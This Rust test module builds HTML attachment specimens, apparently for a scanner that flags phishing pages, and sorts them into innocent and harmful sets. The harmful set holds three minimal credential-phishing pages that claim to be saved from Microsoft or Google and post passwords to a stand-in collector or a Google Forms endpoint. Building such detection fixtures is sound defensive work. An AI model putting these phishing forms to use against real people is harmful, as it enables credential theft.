//! Attached pages: reports, saved pages and manuals, as browsers and programs write them.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::Specimen;
use super::archive::zip_of;
use super::carrier::{encoded_program, png};
use super::letter::Letter;

const HTML: &str = "text/html";

/// A page with a title and something in its body.
fn page(body: &str) -> Vec<u8> {
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Page</title></head>\n\
         <body>{body}</body></html>\n"
    )
    .into_bytes()
}

/// Text enough for a page to be one that somebody reads.
const TEXT: &str = "<h1>Sales of the third quarter</h1><p>The table below shows the sales of each region, with last \
    year beside them. Questions go to the department of finance.</p>";

/// A long text that nobody can read: a font or a picture in base64.
fn long_base64(bytes: usize) -> String {
    let bytes: Vec<u8> = (0..bytes).map(|at| (at * 37 % 251) as u8).collect();
    STANDARD.encode(bytes)
}

/// Innocent, every one.
pub(super) fn innocent() -> Vec<Specimen> {
    [makes_a_file(), asks_for_a_password(), writes_itself(), moves_on(), with_a_program()].concat()
}

/// Harmful: they say that they were saved from a site, and collect elsewhere, or say so of where they collect.
pub(super) fn harmful() -> Vec<Specimen> {
    let is = |name, file, saved_from: &str, action: &str| {
        let body = format!(
            "<!-- saved from url=({:04}){saved_from} -->{TEXT}<form action=\"{action}\"><input type=\"password\" \
             name=\"passwd\"></form>",
            saved_from.len()
        );
        Specimen::harmful(name, file, HTML, page(&body), "html-credentials")
    };
    let (login, collects) = ("https://login.microsoftonline.com/common/oauth2", "https://collect.invalid/login");
    let form = "https://docs.google.com/forms/d/e/1/formResponse";
    vec![
        is("a login that says it was saved from a well-known site", "microsoft.html", login, collects),
        is("a login that says it was saved from where it collects", "mailbox.html", collects, collects),
        is("a login that fills in a form of somebody at a well-known site", "google.html", form, form),
    ]
}

fn makes_a_file() -> Vec<Specimen> {
    let is = |name, file, body: String| Specimen::innocent(&["HTM-0001"], name, file, HTML, page(&body));
    let picture = STANDARD.encode(png());
    vec![
        is(
            "a report with a button that saves its table as CSV",
            "report.html",
            format!(
                "{TEXT}<button onclick=\"save()\">Export as CSV</button><script>function save(){{\
                 var rows=[['Region','Sales'],['North','12'],['South','15']];\
                 var text=rows.map(function(r){{return r.join(';')}}).join('\\n');\
                 var blob=new Blob([text],{{type:'text/csv'}});var a=document.createElement('a');\
                 a.href=URL.createObjectURL(blob);a.download='sales.csv';a.click();}}</script>"
            ),
        ),
        is(
            "a chart whose button saves it as a picture",
            "chart.html",
            format!(
                "{TEXT}<canvas id=\"c\"></canvas><script>var logo='data:image/png;base64,{picture}';\
                 function save(){{var data=atob(document.getElementById('c').toDataURL().split(',')[1]);\
                 var bytes=new Uint8Array(data.length);for(var i=0;i<data.length;i++)bytes[i]=data.charCodeAt(i);\
                 var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([bytes],{{type:'image/png'}}));\
                 a.download='newplot.png';a.click();}}</script>"
            ),
        ),
        is(
            "a chart with its data in a script of its own",
            "analysis.html",
            format!(
                "{TEXT}<script type=\"application/json\">{{\"data\":\"{}\"}}</script><script>function save(){{\
                 var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([document.title]));\
                 a.download='analysis.json';a.click();}}</script>",
                long_base64(3000)
            ),
        ),
        is(
            "a notebook with a link that saves its table",
            "notebook.html",
            format!("{TEXT}<a download=\"table.csv\" href=\"data:text/csv;charset=utf-8,a%2Cb%0A1%2C2\">table</a>"),
        ),
        is(
            "a page with an appendix in PDF in a link",
            "minutes.html",
            format!(
                "{TEXT}<a download=\"appendix.pdf\" href=\"data:application/pdf;base64,{}\">appendix</a>",
                STANDARD.encode(b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
            ),
        ),
        is(
            "a report with its workbook in a link",
            "export.html",
            format!(
                "{TEXT}<a download=\"export.xlsx\" href=\"data:application/octet-stream;base64,{}\">workbook</a>",
                STANDARD.encode(zip_of(&[("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")]))
            ),
        ),
        is(
            "a diagram that is saved as a drawing with its font",
            "diagram.html",
            format!(
                "{TEXT}<style>@font-face{{font-family:x;src:url(data:font/woff2;base64,{})}}</style><script>\
                 function save(){{var text=new XMLSerializer().serializeToString(document.querySelector('svg'));\
                 window.open('data:image/svg+xml;charset=utf-8,'+encodeURIComponent(text));}}</script>",
                long_base64(1500)
            ),
        ),
    ]
}

fn asks_for_a_password() -> Vec<Specimen> {
    let is = |name, file, body: String| Specimen::innocent(&["HTM-0002"], name, file, HTML, page(&body));
    let portal = "https://portal.partner.example/login";
    let portal = format!(
        "<!-- saved from url=({:04}){portal} -->{TEXT}<form action=\"{portal}\"><input type=\"password\" \
         name=\"pw\"></form>",
        portal.len()
    );
    vec![
        Specimen::mail(
            &["HTM-0002"],
            "the login of the sender's own portal, as a browser saved it",
            &Letter::new("portal").text("Where to sign in.").file("portal.html", HTML, &page(&portal)),
        ),
        is(
            "a saved page whose login leads to its own site",
            "shop.html",
            format!(
                "{TEXT}<form action=\"/account/login\" method=\"post\"><input name=\"mail\"><input type=\"password\" \
                 name=\"password\"><button>Sign in</button></form>"
            ),
        ),
        is(
            "a manual that speaks of passwords",
            "manual.html",
            "<h1>Passwords</h1><p>A good password has twelve characters or more. Type it into the field \
             <code>&lt;input type=\"password\"&gt;</code> of the page for signing in; the administrator resets it.</p>"
                .to_owned(),
        ),
        is(
            "a saved page with a login of its own and a newsletter elsewhere",
            "forum.html",
            format!(
                "{TEXT}<form action=\"login.php\"><input type=\"password\" name=\"pw\"></form><form \
                 action=\"https://lists.example.org/subscribe\"><input type=\"email\" name=\"mail\"></form>"
            ),
        ),
        is(
            "a form of a travel agency that asks for a passport",
            "booking.html",
            format!(
                "{TEXT}<form action=\"https://travel.example.org/booking\"><input name=\"passenger\"><input \
                 name=\"passport\"><input type=\"date\" name=\"birth\"></form>"
            ),
        ),
        is(
            "a page that makes up passwords",
            "generator.html",
            format!(
                "{TEXT}<input type=\"password\" id=\"out\"><button onclick=\"make()\">New</button><script>\
                 function make(){{var s='';for(var i=0;i<12;i++)s+=String.fromCharCode(97+Math.random()*26);\
                 document.getElementById('out').value=s;}}</script>"
            ),
        ),
        is(
            "a saved page of a well-known site whose login has its whole address",
            "signin.html",
            format!(
                "<!-- saved from url=(0043)https://login.microsoftonline.com/common/oa -->{TEXT}<form \
                 action=\"https://login.microsoftonline.com/common/login\"><input name=\"login\"><input \
                 type=\"password\" name=\"passwd\"></form>"
            ),
        ),
        is(
            "a page that was saved with SingleFile, of a well-known site",
            "signin-2.html",
            format!(
                "<!--\n Page saved with SingleFile \n url: https://www.linkedin.com/login \n--><link rel=\"canonical\" \
                 href=\"https://www.linkedin.com/login\">{TEXT}<form \
                 action=\"https://www.linkedin.com/checkpoint/lg/login-submit\"><input type=\"password\" \
                 name=\"session_password\"></form>"
            ),
        ),
        is(
            "a survey that is sent to its site",
            "survey.html",
            format!(
                "{TEXT}<form action=\"https://survey.example.org/answer\"><input type=\"radio\" name=\"q1\"><textarea \
                 name=\"remarks\"></textarea><input type=\"submit\" value=\"Send\"></form>"
            ),
        ),
    ]
}

fn writes_itself() -> Vec<Specimen> {
    let is = |name, file, body: String| Specimen::innocent(&["HTM-0003"], name, file, HTML, page(&body));
    vec![
        is(
            "a saved page whose counter of visitors is loaded in the old way",
            "article.html",
            format!(
                "{TEXT}<script>document.write(unescape(\"%3Cscript src='\"+gaJsHost+\"ga.js' \
                 type='text/javascript'%3E%3C/script%3E\"));</script>"
            ),
        ),
        is(
            "a page that writes the year",
            "imprint.html",
            format!("{TEXT}<p>&copy; <script>document.write(new Date().getFullYear())</script></p>"),
        ),
        is(
            "a page that changes a line of its text",
            "status.html",
            format!("{TEXT}<p id=\"s\"></p><script>document.getElementById('s').innerHTML='<b>done</b>';</script>"),
        ),
        is(
            "a page that reads what its address asks for",
            "search.html",
            format!(
                "{TEXT}<p id=\"q\"></p><script>var q=decodeURIComponent(location.search.substring(3));\
                 document.getElementById('q').textContent=q;</script>"
            ),
        ),
        is(
            "a page with its settings in base64",
            "dashboard.html",
            format!("{TEXT}<script>var settings=JSON.parse(atob('eyJjb2xvdXIiOiJibHVlIn0='));draw(settings)</script>"),
        ),
        is(
            "a saved page that hides an address of mail from collectors",
            "contact.html",
            format!(
                "{TEXT}<script>document.write(unescape('%3Ca%20href%3D%22mailto%3Ainfo%40partner.example%22%3E\
                 info%40partner.example%3C%2Fa%3E'));</script>"
            ),
        ),
        is(
            "a page that prints itself",
            "ticket.html",
            format!("{TEXT}<body onload=\"window.print()\"><p>Gate 4, seat 12</p>"),
        ),
    ]
}

fn moves_on() -> Vec<Specimen> {
    let is = |name, file, body: &str| Specimen::innocent(&["HTM-0004"], name, file, HTML, page(body));
    vec![
        is(
            "a page with a text and links",
            "links.html",
            &format!("{TEXT}<a href=\"https://www.example.org/\">more</a>"),
        ),
        is(
            "a page that loads itself anew each minute",
            "departures.html",
            &format!("<meta http-equiv=\"refresh\" content=\"60\">{TEXT}"),
        ),
        is(
            "a page that has moved, and says so",
            "moved.html",
            "<meta http-equiv=\"refresh\" content=\"10; url=https://www.example.org/new\"><p>Our page for partners has \
             moved. You will be taken there in ten seconds; please change your bookmark until then.</p>",
        ),
        is(
            "a page with a button that leads back",
            "step.html",
            &format!("{TEXT}<button onclick=\"location.href='index.html'\">Back to the list</button>"),
        ),
        is("a page that is one picture", "poster.html", "<img src=\"poster.png\" alt=\"Poster\" width=\"800\">"),
        is("a page with one link and hardly a text", "index.html", "<a href=\"report.html\">Report of 2026</a>"),
    ]
}

fn with_a_program() -> Vec<Specimen> {
    let is = |name, file, body: String| Specimen::innocent(&["HTM-0005"], name, file, HTML, page(&body));
    let cut = String::from_utf8_lossy(&encoded_program()[..40]).into_owned();
    vec![
        is(
            "a page with its pictures in it",
            "single.html",
            format!("{TEXT}<img src=\"data:image/png;base64,{}\">", STANDARD.encode(png())),
        ),
        is(
            "a page with its font in it",
            "typeset.html",
            format!(
                "{TEXT}<style>@font-face{{font-family:x;src:url(data:font/woff2;base64,{})}}</style>",
                long_base64(3000)
            ),
        ),
        is(
            "a page about how programs look in base64",
            "lesson.html",
            format!("{TEXT}<p>A program of Windows begins with the letters MZ, in base64 with TVqQAAMAAAAEAAAA.</p>"),
        ),
        is("a page with the first bytes of a program", "forensics.html", format!("{TEXT}<pre>{cut}</pre>")),
        is(
            "a page with the map of its sources in base64",
            "bundle.html",
            format!(
                "{TEXT}<script>draw()\n//# sourceMappingURL=data:application/json;base64,{}\n</script>",
                STANDARD.encode("{\"version\":3,\"sources\":[\"draw.ts\"],\"mappings\":\"AAAA\"}")
            ),
        ),
    ]
}
